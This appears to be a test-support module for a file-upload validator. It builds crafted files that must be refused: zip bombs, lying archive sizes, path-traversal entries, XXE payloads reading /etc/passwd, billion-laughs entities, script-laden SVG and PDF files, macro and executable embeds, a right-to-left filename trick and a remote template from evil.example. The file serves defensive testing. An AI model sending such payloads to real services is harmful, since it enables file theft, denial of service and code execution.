"""Files that must be refused, each with the words that say why; honest ones stand beside."""

import struct
import zipfile
from collections.abc import Callable
from io import BytesIO

from tests.support.files.honest import (
    RELATIONS,
    WORD_TYPE,
    archive,
    compound,
    excel,
    jpeg,
    large_word,
    letter,
    outlook,
    pdf,
    png,
    types,
    word,
    word_parts,
)

_MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
_XXE = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]><d>&e;</d>'
_LAUGHS = '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><d>&b;</d>'
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def with_parts(**changed: str | bytes) -> bytes:
    return archive({**word_parts(), **changed})


def bomb() -> bytes:
    """Unpack to 150 MB from a few hundred KB."""
    return word(**{"word/media/image1.emf": b"\x00" * 150_000_000})


def nested_bomb() -> bytes:
    """Put archives into archives, each of them within the limits."""
    inner = archive({"a.bin": b"\x00" * 40_000_000})
    return word(**{f"word/embeddings/{number}.bin": archive({"b.bin": inner, "c": b"c"}) for number in range(3)})


def many_steps_deep() -> bytes:
    inner = excel()
    for number in range(5):
        inner = archive({f"{number}.bin": inner})
    return word(**{"word/embeddings/a.bin": inner})


def lying_sizes() -> bytes:
    """Say of a part that it is small, in the directory and in its own header, and pack a large one."""
    packed = bytearray(word(**{"word/media/image1.emf": b"\x00" * 5_000_000}))
    true = struct.pack("<I", 5_000_000)
    for _ in range(2):
        place = packed.index(true)
        packed[place : place + 4] = struct.pack("<I", 10)
    return bytes(packed)


def lying_header() -> bytes:
    """Say two sizes of one part: a small one in the directory, the true one in its own header."""
    packed = bytearray(word(**{"word/media/image1.emf": b"\x00" * 5_000_000}))
    place = packed.rindex(struct.pack("<I", 5_000_000))
    packed[place : place + 4] = struct.pack("<I", 10)
    return bytes(packed)


def many_parts() -> bytes:
    return word(**{f"word/{number}.txt": b"" for number in range(4000)})


def large_directory() -> bytes:
    return word(**{f"word/{'x' * 200}{number}.txt": b"" for number in range(6000)})


def twice_the_same() -> bytes:
    made = BytesIO(word())
    with zipfile.ZipFile(made, "a") as opened:
        opened.writestr("WORD/document.xml", "<d/>")
    return made.getvalue()


def with_password() -> bytes:
    """Mark every part as encrypted, as an archive's own password does."""
    packed = bytearray(word())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = packed.find(mark)
        while place >= 0:
            packed[place + offset] |= 1
            place = packed.find(mark, place + 4)
    return bytes(packed)


def fetches_template() -> bytes:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    link = f'<Relationship Id="a" Type="{kind}" Target="https://evil.example/t.dotm" TargetMode="External"/>'
    return with_parts(**{"word/_rels/settings.xml.rels": f'<Relationships xmlns="{RELATIONS}">{link}</Relationships>'})


MACROS, PROTECTED, TOO_MUCH = "holds macros", "protected by a password", "unpacks to more"
DAMAGED, FOREIGN, OTHER = "is damaged", "parts that its own program does not write", "do not agree"
KINDS = "must be a PDF, Word, Excel, image or e-mail file"

# what it is, the name under which it comes, how it is made, what the refusal says
REFUSED: list[tuple[str, str, Callable[[], bytes], str]] = [
    ("bomb", "report.docx", bomb, TOO_MUCH),
    ("nested bomb", "report.docx", nested_bomb, TOO_MUCH),
    ("archives in archives", "report.docx", many_steps_deep, TOO_MUCH),
    ("lying sizes", "report.docx", lying_sizes, DAMAGED),
    ("two sizes of one part", "report.docx", lying_header, DAMAGED),
    ("too many parts", "report.docx", many_parts, TOO_MUCH),
    ("a directory of 1 MB", "report.docx", large_directory, TOO_MUCH),
    ("a part twice", "report.docx", twice_the_same, FOREIGN),
    ("a part outside", "report.docx", lambda: word(**{"../../etc/cron.d/x": b"x"}), FOREIGN),
    ("a part at the root", "report.docx", lambda: word(**{"/etc/x": b"x"}), FOREIGN),
    ("an archive behind a program", "report.docx", lambda: b"PK\x03\x04" + word(), FOREIGN),
    ("an archive with a tail", "report.docx", lambda: word() + b"<html>", DAMAGED),
    ("a cut archive", "report.docx", lambda: word()[:-30], DAMAGED),
    ("XXE", "report.docx", lambda: with_parts(**{"word/document.xml": _XXE}), FOREIGN),
    ("XXE in UTF-16", "report.docx", lambda: with_parts(**{"word/a.xml": _XXE.encode("utf-16")}), FOREIGN),
    ("XXE under another name", "report.docx", lambda: with_parts(**{"word/a.bin": _XXE}), FOREIGN),
    ("XXE in the list of types", "report.docx", lambda: with_parts(**{"[Content_Types].xml": _XXE}), FOREIGN),
    ("entities", "report.docx", lambda: with_parts(**{"word/document.xml": _LAUGHS}), FOREIGN),
    ("broken XML", "report.docx", lambda: with_parts(**{"word/document.xml": "<d><e></d>"}), DAMAGED),
    ("a macro part", "report.docx", lambda: word(**{"word/vbaProject.bin": b"x"}), MACROS),
    ("docm renamed", "report.docx", lambda: with_parts(**{"[Content_Types].xml": types(_MACRO_TYPE)}), MACROS),
    ("docm", "report.docm", word, MACROS),
    ("a control", "report.docx", lambda: word(**{"word/activeX/activeX1.bin": b"x"}), MACROS),
    ("macros in a file within", "report.docx", lambda: word(**{"word/a.bin": compound({"VBA": b"x"})}), MACROS),
    ("a program within", "report.docx", lambda: word(**{"word/embeddings/a.bin": b"MZ\x90"}), "holds a program"),
    ("a template from the web", "report.docx", fetches_template, "fetches parts"),
    ("two main parts", "a.docx", lambda: with_parts(**{"[Content_Types].xml": types(more=_second())}), OTHER),
    ("an archive of anything", "report.docx", lambda: archive({"a.txt": "a"}), OTHER),
    ("Excel named Word", "report.docx", excel, OTHER),
    ("parts with a password", "report.docx", with_password, PROTECTED),
    ("protected Word", "report.docx", lambda: compound({"EncryptionInfo": b"x", "EncryptedPackage": b"x"}), PROTECTED),
    ("older Word", "report.doc", lambda: compound({"WordDocument": b"x"}), "older Word or Excel"),
    ("older Excel renamed", "report.xlsx", lambda: compound({"Workbook": b"x"}), "older Word or Excel"),
    ("a broken message", "a.msg", lambda: outlook()[:600], DAMAGED),
    ("macros in a message", "a.msg", lambda: outlook(large_word(**{"word/vbaProject.bin": b"x"})), MACROS),
    ("macros in a letter", "a.eml", lambda: letter(compound({"Macros": b"x"})), MACROS),
    ("a program in a letter", "a.eml", lambda: letter(b"MZ\x90 and so on"), "holds a program"),
    (
        "a sealed letter",
        "a.eml",
        lambda: letter().replace(b"text/plain", b"application/pkcs7-mime; smime-type=enveloped-data"),
        PROTECTED,
    ),
    ("a protected PDF", "a.pdf", lambda: pdf(extra=b"% /Encrypt 9 0 R\n"), PROTECTED),
    ("a PDF cut off", "a.pdf", lambda: pdf()[:200], DAMAGED),
    ("a PDF that is a page", "a.pdf", lambda: pdf(extra=b"%<html><script>alert(1)</script>\n"), FOREIGN),
    ("a PDF that is an archive", "a.pdf", lambda: pdf() + word() + b"\n%%EOF", FOREIGN),
    ("a page named PDF", "a.pdf", lambda: b"<!doctype html><script>alert(1)</script>", OTHER),
    ("a page before a PDF", "a.pdf", lambda: b"<html>" + pdf(), OTHER),
    ("a picture that is a page", "a.png", lambda: png() + b"<script>alert(1)</script>", FOREIGN),
    ("a picture that is an archive", "a.jpg", lambda: jpeg() + word(), FOREIGN),
    ("a JPEG named PNG", "a.png", jpeg, OTHER),
    ("SVG", "a.svg", lambda: _SVG, KINDS),
    ("SVG named PNG", "a.png", lambda: _SVG, OTHER),
    ("a page", "a.html", lambda: b"<html></html>", KINDS),
    ("no end", "report", pdf, KINDS),
    ("an end that turns", "report\u202efdp.exe", pdf, KINDS),
    ("two ends", "report.pdf.exe", pdf, KINDS),
    ("text", "a.eml", lambda: b"Dear all,\n\nhere it is.\n", OTHER),
    ("a page named e-mail", "a.eml", lambda: b"<html>From: a\nTo: b\nDate: c\n\n</html>", OTHER),
    ("nothing", "a.pdf", lambda: b"", "is empty"),
    ("21 MB", "a.pdf", lambda: pdf(extra=b"%" + b"x" * 22_000_000 + b"\n"), "must be smaller than 20 MB"),
]


def _second() -> str:
    return f'<Override PartName="/word/b.xml" ContentType="{WORD_TYPE}"/>'
